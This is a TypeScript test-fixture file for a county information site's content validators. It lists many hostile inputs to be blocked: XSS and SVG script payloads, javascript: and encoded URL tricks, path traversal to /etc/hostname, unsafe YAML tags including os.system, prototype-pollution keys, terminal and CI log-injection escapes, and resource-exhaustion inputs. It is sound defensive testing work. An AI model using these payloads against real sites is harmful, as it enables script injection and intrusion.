/**
 * Hostile files: code to be run, requests to other hosts, terminal escapes, or endless work. All are harmless, and aimed at
 * Mingbai's own guards. Each must be stopped or rendered as inert text.
 */
import { strToU8, zipSync } from 'fflate';
import { baseFiles, document } from './base.ts';
import { createSet, lines, type Written } from './case.ts';

/** A minimal office file: a zip with one part of this name. */
const office = (part: string): Uint8Array =>
  zipSync({ '[Content_Types].xml': strToU8('<Types/>'), [part]: strToU8('<w/>') });

const set = createSet('hostile', {
  wanted: 'stop-or-inert',
  except: ['plain/', 'freshness/', 'privacy/', 'link/short-address-taken'],
});
export const hostile = set.cases;

set.plants(
  'markup',
  {},
  lines(`
    <script>document.title='hit'</script>
    <SCRIPT src="https://hit.invalid/a.js"></SCRIPT>
    <script type="module">import 'https://hit.invalid/a.js'</script>
    照着做。<script>1</script>
    - <script>1</script>
    | a | b ⏎ <script>1</script> | 2
    ## <script>1</script>
    > <script>1</script>
    <Note> ¶ <script>1</script> ¶ </Note>
    <Note title="<script>1</script>"> ¶ 好。 ¶ </Note>
    <Note onclick="hit()"> ¶ 好。 ¶ </Note>
    <Note {...hit}> ¶ 好。 ¶ </Note>
    <Note title={hit()}> ¶ 好。 ¶ </Note>
    <Call contact="tel-12345" onclick="hit()" />
    <Call contact="tel-12345&quot; onclick=&quot;hit()" />
    <PolicyLink policy="javascript:hit()" />
    <PolicyLink policy="../../hit" />
    <Question ask="好吗" style="position:fixed"> ¶ 好。 ¶ </Question>
    <Example title="a" set:html="<b>hit</b>"> ¶ 好。 ¶ </Example>
    <Fragment set:html="hit" />
    <Hit client:load />
    <img src="x" onerror="hit()" />
    <img src=x onerror=hit()>
    <IMG SRC="javascript:hit()" />
    <svg onload="hit()"></svg>
    <svg><script>1</script></svg>
    <math><mtext><script>1</script></mtext></math>
    <iframe src="https://hit.invalid/"></iframe>
    <iframe srcdoc="<script>1</script>"></iframe>
    <object data="https://hit.invalid/a.swf"></object>
    <embed src="https://hit.invalid/a.swf" />
    <link rel="stylesheet" href="https://hit.invalid/a.css" />
    <meta http-equiv="refresh" content="0;url=https://hit.invalid/" />
    <base href="https://hit.invalid/" />
    <form action="https://hit.invalid/"><input name="id" /></form>
    <style>body{background:url(https://hit.invalid/)}</style>
    <p style="background:url(https://hit.invalid/a.png)">好</p>
    <a href="javascript:hit()">看</a>
    <details ontoggle="hit()" open>好</details>
    <video src="https://hit.invalid/a.mp4" autoplay></video>
    <audio src="https://hit.invalid/a.mp3" autoplay></audio>
    <button formaction="javascript:hit()">好</button>
    <template shadowrootmode="open"><script>1</script></template>
    <noscript><img src="https://hit.invalid/a.png" /></noscript>
    <!-- --><script>1</script><!-- -->
    <!--[if IE]><script>1</script><![endif]-->
    <![CDATA[<script>1</script>]]>
    <?php echo 'hit'; ?>
    <x-hit onfocus="hit()" autofocus tabindex="0">好</x-hit>
    import hit from './hit.js' ¶ 好。
    import 'https://hit.invalid/a.js'
    export const hit = process.env
    export default () => hit
    {process.env.HOME}
    {require('node:fs').readFileSync('/etc/hostname')}
    好{globalThis.hit = 1}好
    {/* */ hit()}
    <>{hit()}</>
    <Note>{hit}</Note>
    [看]({hit})
    {'<script>1</script>'}
    <a href="&#106;avascript:hit()">看</a>
    <a href="https://www.county.example/" target="_blank" ping="https://hit.invalid/">看</a>
    <scr<script>ipt>1</scr</script>ipt>
    <Note is="hit"> ¶ 好。 ¶ </Note>
    <constructor />
    <__proto__ />
    <toString />
    <Note __proto__="hit"> ¶ 好。 ¶ </Note>
    <Note.hit />
    <Note:hit />
  `),
);

set.plants(
  'address',
  {},
  lines(String.raw`
    [看](javascript:hit())
    [看](JaVaScRiPt:hit())
    [看](java&#10;script:hit())
    [看](java&Tab;script:hit())
    [看](&#x6a;avascript:hit())
    [看](<java script:hit()>)
    [看](vbscript:hit)
    [看](data:text/html,<script>1</script>)
    [看](data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+)
    [看](blob:https://hit.invalid/1)
    [看](file:///etc/hostname)
    [看](ftp://hit.invalid/a)
    [看](intent://hit#Intent;scheme=http;end)
    [看](weixin://dl/hit)
    [看](view-source:https://hit.invalid/)
    [看](//hit.invalid/a)
    [看](/\hit.invalid/a)
    [看](\\hit.invalid\a)
    [看](/&#9;/hit.invalid/a)
    [看](&#1;javascript:hit())
    [看](../../../etc/hostname)
    [看][一] ¶ [一]: javascript:hit()
    <javascript:hit()>
    <data:text/html,hit>
    ![图](javascript:hit())
    ![图](https://hit.invalid/a.png)
    ![图](//hit.invalid/a.png)
    ![图](data:image/svg+xml,<svg/onload=hit()>)
    ![图](/\hit.invalid/a.png)
    ![图](/../../../etc/hostname)
    ![图](/&#9;/hit.invalid/a.png)
    ![图](file:///etc/hostname)
    ![图" onerror="hit()](/images/a.png)
    [看](/how-to-use/ "好\" onclick=\"hit()")
    [看](tel:12345"onclick="hit())
    [看](mailto:a@b.example?body=<script>1</script>)
    [看](https://www.county.example/"><script>1</script>)
    [看](https://www.county.example@hit.invalid:80:80/)
  `),
);

/** A value in double quotes, so that YAML reads its escapes. */
const media = (src: string): string[] => [
  `@stories image: {src: "${src}", alt: 图}`,
  `@policies audio: {src: "${src}", seconds: 9}`,
];

set.plants(
  'field-address',
  {},
  [
    String.raw`/\t/hit.invalid/a.png`,
    String.raw`/\n/hit.invalid/a.png`,
    String.raw`/\r/hit.invalid/a.png`,
    String.raw`/\r\n/hit.invalid/a.png`,
    String.raw`\t//hit.invalid/a.png`,
    '//hit.invalid/a.png',
    'https://hit.invalid/a.png',
    String.raw`/\\hit.invalid/a.png`,
    String.raw`/a\0b.png`,
    String.raw`/a\u202egnp.png`,
    '/../a.png',
    '/a/../../a.png',
    '/%2e%2e/%2e%2e/a.png',
    'javascript:hit()',
    'data:image/svg+xml,<svg onload=hit()>',
  ].flatMap(media),
  lines(String.raw`
    @policies basis: [{title: 办法, issuer: 民政部, url: "javascript:hit()"}]
    @policies basis: [{title: 办法, issuer: 民政部, url: "//hit.invalid/a"}]
    @policies basis: [{title: 办法, issuer: 民政部, url: "data:text/html,hit"}]
    @policies basis: [{title: 办法, issuer: 民政部, url: "https://a.example/\" onclick=\"hit()"}]
    @policies basis: [{title: 办法, issuer: 民政部, url: "https://a.example/\n<script>"}]
    @stories source: {title: 报道, publisher: 县报, date: 2026-10-01, url: "javascript:hit()"}
    @stories source: {title: 报道, publisher: 县报, date: 2026-10-01, url: "https:hit"}
    @contacts phone: "12345;javascript:hit()"
    @contacts phone: "12345\n<script>"
    @contacts phone: "tel:12345\" onclick=\"hit()"
    @contacts phone: "*#06#"
    @pages aliases: ["/../../hit/"]
    @pages aliases: ["//hit.invalid/"]
    @pages aliases: ["/a/<script>/"]
    @pages aliases: ["javascript:hit()"]
    @policies replacedBy: "../../hit"
    @glossary see: "javascript:hit()"
  `),
);

const svg = (inside: string, attributes = ''): string =>
  `@svg <svg xmlns="http://www.w3.org/2000/svg"${attributes && ` ${attributes}`}>${inside}</svg>`;

set.plants(
  'drawing',
  { wanted: 'stop' },
  [
    '<script>1</script>',
    '<script href="https://hit.invalid/a.js"/>',
    '<SCRIPT>1</SCRIPT>',
    '<a href="javascript:hit()"><text>a</text></a>',
    '<a href="java&#9;script:hit()"><text>a</text></a>',
    '<a href="&#106;avascript:hit()"><text>a</text></a>',
    '<image href="https://hit.invalid/a.png"/>',
    '<image href="//hit.invalid/a.png"/>',
    '<image href="/&#9;/hit.invalid/a.png"/>',
    '<use href="https://hit.invalid/a.svg#a"/>',
    '<use href="data:image/svg+xml,hit#a"/>',
    '<foreignObject><p xmlns="http://www.w3.org/1999/xhtml">a</p></foreignObject>',
    '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://hit.invalid/"/></foreignObject>',
    '<style>@import "https://hit.invalid/a.css";</style>',
    '<style>rect{fill:url(https://hit.invalid/a)}</style>',
    '<style>@\\69mport "//hit.invalid/a.css";</style>',
    '<style>rect{fill:\\75rl(//hit.invalid/a)}</style>',
    '<style>rect{fill:url(\\2f\\2fhit.invalid/a)}</style>',
    '<rect style="fill:url(https://hit.invalid/a)"/>',
    '<rect style="fill:u\\72l(//hit.invalid/a)"/>',
    '<rect fill="url(https://hit.invalid/a#b)"/>',
    '<rect onclick="hit()"/>',
    '<rect ONLOAD="hit()"/>',
    '<animate onbegin="hit()" attributeName="x" dur="1s"/>',
    '<set attributeName="href" to="javascript:hit()"/>',
    '<animate attributeName="href" values="javascript:hit()"/>',
    '<handler type="text/javascript">1</handler>',
    '<discard begin="1s"/><listener event="click" handler="#a"/>',
    '<feImage href="https://hit.invalid/a.png"/>',
    '<metadata><script xmlns="http://www.w3.org/2000/svg">1</script></metadata>',
    '<embed xmlns="http://www.w3.org/1999/xhtml" src="https://hit.invalid/"/>',
    '<meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=https://hit.invalid/"/>',
    '<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="https://hit.invalid/a.css"/>',
    '<video xmlns="http://www.w3.org/1999/xhtml" src="https://hit.invalid/a.mp4"/>',
  ].map((inside) => svg(inside)),
  [
    'onload="hit()"',
    'xmlns:a-b="http://www.w3.org/2000/svg"><a-b:script>1</a-b:script><g',
    'xmlns:图="http://www.w3.org/2000/svg"><图:script>1</图:script><g',
    'xmlns:_="http://www.w3.org/2000/svg"><_:script>1</_:script><g',
    'xmlns:h="http://www.w3.org/1999/xhtml"><h:script>1</h:script><g',
    'xmlns:x="http://www.w3.org/1999/xlink"><image x:href="https://hit.invalid/a.png"/><g',
    'xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load"><g',
  ].map((attributes) => {
    const open = attributes.endsWith('<g') ? `${attributes}/>` : `${attributes}>`;
    return `@svg <svg xmlns="http://www.w3.org/2000/svg" ${open}</svg>`;
  }),
  lines(`
    @svg <?xml-stylesheet href="https://hit.invalid/a.css"?><svg xmlns="http://www.w3.org/2000/svg"/>
    @svg <?xml-stylesheet type="text/xsl" href="#a"?><svg xmlns="http://www.w3.org/2000/svg"/>
    @svg <!DOCTYPE svg [<!ATTLIST svg onload CDATA "hit()">]><svg xmlns="http://www.w3.org/2000/svg"/>
    @svg <!DOCTYPE svg [<!ENTITY a "<script xmlns='http://www.w3.org/2000/svg'>1</script>">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>
    @svg <!DOCTYPE svg SYSTEM "https://hit.invalid/a.dtd"><svg xmlns="http://www.w3.org/2000/svg"/>
    @svg <html xmlns="http://www.w3.org/1999/xhtml"><script>1</script></html>
    @SVG <svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>
    @svg <svg xmlns="http://www.w3.org/2000/svg"><g></svg><script>1</script>
  `),
);

set.plants(
  'public-file',
  { wanted: 'stop' },
  lines(`
    @html <!doctype html><script>1</script>
    @htm <script>1</script>
    @xhtml <html xmlns="http://www.w3.org/1999/xhtml"><script>1</script></html>
    @xht <html xmlns="http://www.w3.org/1999/xhtml"><script>1</script></html>
    @xml <html xmlns="http://www.w3.org/1999/xhtml"><script>1</script></html>
    @xsl <xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"/>
    @xslt <xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"/>
    @js hit()
    @mjs hit()
    @css body{display:none}
    @wasm hit
    @php <?php echo 1;
    @asp <% hit %>
    @jsp <% hit %>
    @cgi echo hit
    @sh echo hit
    @bat echo hit
    @cmd echo hit
    @ps1 echo hit
    @exe MZ
    @scr MZ
    @apk PK
    @jar PK
    @hta <script>1</script>
    @wsf <job><script language="JScript">1</script></job>
    @vbs MsgBox 1
    @lnk hit
    @url [InternetShortcut]
    @docm PK
    @xlsm PK
    @mht MIME-Version: 1.0
    @mhtml MIME-Version: 1.0
    @swf FWS
    @shtml <!--#exec cmd="hit"-->
    @appcache CACHE MANIFEST
    @webmanifest {"start_url":"https://hit.invalid/"}
    @svgz hit
    @msi hit
    @dll MZ
    @reg Windows Registry Editor Version 5.00
  `),
  (
    [
      ['public/a', '<!doctype html><script>1</script>'],
      ['public/files/a', '<script>1</script>'],
      ['public/.htaccess', 'AddType text/html .txt'],
      ['public/.user.ini', 'auto_prepend_file=a.txt'],
      ['public/web.config', '<configuration/>'],
      ['public/sw.js', 'hit()'],
      ['public/index.html', '<script>1</script>'],
      ['public/a.html.', '<script>1</script>'],
      ['public/a.txt.html', '<script>1</script>'],
      ['public/a.HTML', '<script>1</script>'],
    ] as const
  ).map(([path, text]): Written => ({ shown: `${path}: ${text}`, files: { [path]: text }, isAlone: true })),
);

set.plants(
  'link-out',
  { wanted: 'stop', isAlone: true },
  (
    [
      ['content/pages/a.mdx', '/etc/hostname'],
      ['content/contacts/a.yml', '/etc/hostname'],
      ['content/pages/a.mdx', '../../../../../../etc/hostname'],
      ['public/a.txt', '/etc/hostname'],
      ['public/images/a.png', '/etc/hostname'],
      ['public/files', '/etc'],
      ['content/notices', '/etc'],
      ['content/site.yml', '/etc/hostname'],
      ['content/addresses.yml', '/etc/hostname'],
      ['content/finder.yml', '/etc/hostname'],
    ] as const
  ).map(([path, linkTo]): Written => ({ shown: `${path} -> ${linkTo}`, files: { [path]: { linkTo } } })),
);

const siteUrl = (url: string): Written => ({
  shown: `site.yml url: ${JSON.stringify(url)}`,
  files: { 'content/site.yml': `name: 示例县明白纸\nurl: ${JSON.stringify(url)}\n` },
});

set.plants(
  'site-address',
  { wanted: 'stop', isAlone: true },
  [
    'https://www.county.example/"><script>1</script>',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a template literal as text is the fault.
    'https://www.county.example/${x}/',
    'https://www.county.example/`/',
    "https://www.county.example/'/",
    'https://www.county.example/<svg onload=hit()>/',
    'https://www.county.example/?x=<svg onload=hit()>',
    'https://www.county.example/#hit',
    'https://a"b@hit.invalid/',
    'https://user:pass@www.county.example/',
    'https://www.county.example/\t/hit.invalid/',
    'https://www.county.example/\n',
    'javascript:hit()',
    'data:text/html,hit',
    'file:///etc/',
    '//hit.invalid/',
    'https://www.county.example/a b/',
    'https://www.county.example/[slug]/',
    'https://www.county.example/a\\b/',
    'https://www.county.example/\u202e/',
  ].map(siteUrl),
  [
    'name: "<script>1</script>"\nurl: https://www.county.example/\nhead: <script>1</script>',
    'name: a\nurl: https://www.county.example/\n__proto__: {demo: true}',
    'name: a\nurl: https://www.county.example/\ntelephone: "12345\\" onclick=\\"hit()"',
  ].map((text): Written => ({ shown: `site.yml ${text}`, files: { 'content/site.yml': `${text}\n` } })),
);

set.plants(
  'yaml',
  { wanted: 'stop' },
  lines(`
    @pages title: !!js/function "function(){hit()}"
    @pages title: !!js/regexp /a/
    @pages title: !!python/object/apply:os.system ["hit"]
    @pages title: !hit 好
    @pages __proto__: {draft: true}
    @pages constructor: {prototype: {draft: true}}
    @pages title: &a [*a]
    @pages title: !!binary aGl0
    @pages <<: {title: 好}
    @pages title: [[[[[[[[[[[[[[[[[[[[好]]]]]]]]]]]]]]]]]]]]
    @policies steps: [{__proto__: {title: 好}, title: 好}]
    @contacts toString: hit
  `),
  ['&', '!!set {a}', '{{hit}}'].map((value) => `@pages title: ${value}`),
);

/** File names, values and fields that would write control sequences to a terminal or forge a log line. */
const ESCAPES = [
  '\u001b[31m红',
  '\u001b]0;hit\u0007',
  '\u001b[2J',
  '\u009b31m',
  '\u0007',
  '\u0008\u0008\u0008',
  '\u007f',
  '\u202e好',
  '\u2066好',
  '\u2028::error::hit',
  '\u2029::error::hit',
  '\u0085::error::hit',
  '\r::error::hit',
  '\u000b',
  '\u000c',
];

set.plants(
  'terminal',
  { wanted: 'printed', isAlone: true },
  ESCAPES.map(
    (control): Written => ({
      shown: `value of kind: ${JSON.stringify(control)}`,
      files: {
        'content/notices/a.mdx': document('notices', `kind: ${JSON.stringify(`a${control}`)}`, '好。'),
      },
    }),
  ),
  ESCAPES.slice(0, 12).map((control): Written => {
    const name = `content/pages/a${control}b.mdx`;
    return { shown: `file name ${JSON.stringify(name)}`, files: { [name]: document('pages', '', '好。') } };
  }),
  [
    '\n::error file=x::hit',
    '\n::set-output name=a::hit',
    '\r\n##[error]hit',
    '\n##vso[task.complete]hit',
  ].map((text): Written => {
    const name = `content/pages/a${text.replaceAll('/', '')}.mdx`;
    return { shown: `file name ${JSON.stringify(name)}`, files: { [name]: document('pages', '', '好。') } };
  }),
  ['\u001b[31m', '\u202e', '\n::error::hit'].map((text): Written => {
    const name = `public/a${text}.html`;
    return { shown: `public file ${JSON.stringify(name)}`, files: { [name]: '好' } };
  }),
  ['\u001b[31m', '\u202e', '\n::error::hit'].map((text): Written => {
    const name = `content/a${text}`;
    return { shown: `folder ${JSON.stringify(name)}`, files: { [`${name}/a.mdx`]: '好' } };
  }),
  [
    `${JSON.stringify('a\u001b[31m')}: 好`,
    `${JSON.stringify('a\n::error::hit')}: 好`,
    `order: ${JSON.stringify('\u001b[31m')}`,
    `aliases: [${JSON.stringify('/a\u202e/')}]`,
    `reviewedOn: ${JSON.stringify('2026\u2028::error::x')}`,
    `reviewBy: ${JSON.stringify('2026\r::error::x')}`,
    `draft: ${JSON.stringify('\u0007')}`,
  ].map(
    (fields): Written => ({
      shown: `fields ${fields}`,
      files: { 'content/pages/a.mdx': document('pages', fields, '好。') },
    }),
  ),
  [
    '[看](/a\u202eb/)',
    '[看](/没有\u001b/)',
    '<a\u001b>',
    '![图](/a\u009b.png)',
    '<Hit\u202e />',
    '[看](#\u202e)',
  ].map(
    (body): Written => ({
      shown: `body ${JSON.stringify(body)}`,
      files: { 'content/pages/a.mdx': document('pages', '', body) },
    }),
  ),
);

const bodyOf = (shown: string, body: string): Written => ({
  shown,
  files: { 'content/pages/a.mdx': document('pages', '', body) },
});

/** More than any document needs, and nested so deep that a recursive walk fails. Must be reported in words. */
set.plants(
  'too-deep',
  { wanted: 'stop', isAlone: true },
  bodyOf('1,200 notes one in another', `${'<Note>\n\n'.repeat(1200)}深${'\n\n</Note>'.repeat(1200)}`),
  bodyOf('20,000 quotations one in another', `${'>'.repeat(20_000)} 深`),
  bodyOf(
    '300 lists one in another',
    Array.from({ length: 300 }, (_, depth) => `${'  '.repeat(depth)}- 深`).join('\n'),
  ),
  bodyOf(
    '900 examples one in another',
    `${'<Example title="深">\n\n'.repeat(900)}深${'\n\n</Example>'.repeat(900)}`,
  ),
  {
    shown: 'a field of 3,000 lists one in another',
    files: {
      'content/pages/a.mdx': document('pages', `title: ${'['.repeat(3000)}深${']'.repeat(3000)}`, '好。'),
    },
  },
  {
    shown: 'a billion laughs of YAML',
    files: {
      'content/pages/a.mdx': document(
        'pages',
        `a: &a [1,1,1,1,1,1,1,1,1]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: [*e,*e,*e,*e,*e,*e,*e,*e,*e]`,
        '好。',
      ),
    },
  },
  {
    shown: 'a place in itself',
    files: { 'content/places/he-wan.yml': 'id: he-wan\nname: 河湾镇\nparent: he-wan\nkind: town\n' },
  },
);

set.plants(
  'too-deep',
  { isAlone: true },
  bodyOf('5,000 brackets', `${'['.repeat(5000)}深${'](/a/)'.repeat(5000)}`),
);

/** Input for which a pattern of more than linear time would need minutes or years. */
set.plants(
  'in-time',
  { wanted: 'in-time', isAlone: true },
  bodyOf('name and 40 times a word of time', `田明${'，今年'.repeat(40)}好。`),
  bodyOf('name and 60 brackets', `田明${'（今年'.repeat(60)}好。`),
  bodyOf('60,000 characters and a bracket', `${'清'.repeat(60_000)})`),
  bodyOf('60,000 opening brackets', '（'.repeat(60_000)),
  bodyOf('60,000 digits', '1'.repeat(60_000)),
  bodyOf('30,000 digits with blanks', '1 '.repeat(30_000)),
  bodyOf('60,000 blanks', `好${' '.repeat(60_000)}好`),
  bodyOf('30,000 names', '田明、'.repeat(30_000)),
  bodyOf('30,000 stars', `${'*a **b '.repeat(15_000)}`),
  bodyOf('30,000 underscores', '_a__b '.repeat(15_000)),
  bodyOf('30,000 backticks', '`a``'.repeat(15_000)),
  bodyOf('20,000 open links', '[看]('.repeat(20_000)),
  bodyOf('a table of 3,000 columns', `| ${'a | '.repeat(3000)}\n| ${'--- | '.repeat(3000)}`),
  bodyOf('20,000 entities', '&amp;'.repeat(20_000)),
  bodyOf('20,000 syllables in brackets', '低(dī)'.repeat(20_000)),
  bodyOf('20,000 houses', '柳沟村1组'.repeat(20_000)),
);

set.plants(
  'too-long',
  {},
  ['title', 'summary', 'order', 'reviewedOn', 'aliases'].map((field) => ({
    shown: `${field} of 100,000 characters`,
    files: {
      [`content/pages/long-${field.toLowerCase()}.mdx`]: document(
        'pages',
        `${field}: ${'长'.repeat(100_000)}`,
        '好。',
      ),
    },
  })),
);

set.lookAlikes(
  'harmless',
  { rules: ['mdx/', 'public/', 'yaml/', 'link/', 'schema/', 'file/'] },
  lines(`
    &lt;script&gt;这样的字是给浏览器看的。
    ~~~ ⏎ <script>1</script> ⏎ ~~~
    小于号写成 5 < 7 就行，大于号是 7 > 5。
    收入 < 标准的，能申请。
    网页上看见script这个词，不用管。
    javascript是写网页用的，和办事没关系。
    点开以后onclick这些字不用看。
    报名表上的“import”是进口的意思。
    出口export，进口import。
    把钱打到“data”卡上的，是骗子。
    [看](https://www.county.example/a?b=1&c=2)
    [看](https://www.county.example/%E5%8A%9E/)
    [打](tel:12345)
    [写信](mailto:a@county.example)
    [往上](#)
    [看](/policies/di-bao/)
    看https://www.county.example/a_b_c/
    ${'`'}<script>${'`'}这样的字是代码。
    ${'`'}{name}${'`'}是要换掉的。
    3 && 4，A & B，AT&T
    一、先报名；二、再体检。
    <Note title="记住：1 < 2"> ¶ 好。 ¶ </Note>
    <Question ask="要带“户口本”吗？"> ¶ 要。 ¶ </Question>
    <Call contact="tel-12345" />
    <PolicyLink policy="di-bao" />
    @pages title: 骗子发的链接别点，javascript也别管
    @pages summary: "冒号: 引号“”和'单引号'都可以"
    @policies basis: [{title: 办法, issuer: 民政部, url: "https://www.gov.cn/zhengce/content/2021-06/11/content_5616977.htm?a=1"}]
    @policies cost: "不收钱 & 不押证"
    @notices where: "村委会（2楼）<东头>"
    @contacts hours: "8:00-12:00 & 14:30-18:00"
    @txt 照着填：姓名、村名。<样子>
    @csv 项目,钱 ⏎ "路,桥",100
  `),
  [
    '<path d="M0 0h9v9z" fill="#a00"/>',
    '<defs><linearGradient id="a"><stop offset="0" stop-color="#fff"/></linearGradient></defs><rect fill="url(#a)" width="9" height="9"/>',
    '<title>地图</title><desc>去镇上的路</desc><g transform="translate(1 1)"><circle cx="4" cy="4" r="3"/></g>',
    '<text x="1" y="8" font-size="8">镇政府</text>',
    '<symbol id="s" viewBox="0 0 9 9"><path d="M0 0h9"/></symbol><use href="#s"/>',
    '<clipPath id="c"><rect width="5" height="5"/></clipPath><g clip-path="url(#c)"><path d="M0 0h9v9z"/></g>',
    '<style>path{fill:#a00;stroke-width:2}</style><path d="M0 0h9v9z"/>',
    '<rect width="9" height="9" style="fill:#fff;stroke:#000"/>',
    '<polyline points="0,0 3,3 6,1"/><polygon points="1,1 2,2 3,1"/><ellipse cx="3" cy="3" rx="2" ry="1"/><line x1="0" x2="9"/>',
  ].map((inside) => svg(inside, 'viewBox="0 0 9 9"')),
  (
    [
      ['public/files/biao.pdf', '%PDF-1.4\n%%EOF\n'],
      ['public/files/biao.docx', office('word/document.xml')],
      ['public/files/biao.xlsx', office('xl/workbook.xml')],
      ['public/audio/a.mp3', 'ID3'],
      ['public/robots.txt', 'User-agent: *\nAllow: /\n'],
    ] as const
  ).map(([path, text]): Written => ({ shown: path, files: { [path]: text } })),
);

set.lookAlikes('harmless', { rules: [''], isAlone: true }, [
  siteUrl('https://www.county.example/mingbai/'),
  siteUrl('http://mingbai.county.example/'),
  siteUrl('https://www.county.example:8443/a-b_c.d~e/'),
  { shown: 'the base as it stands', files: { 'content/site.yml': baseFiles['site.yml'] ?? '' } },
]);
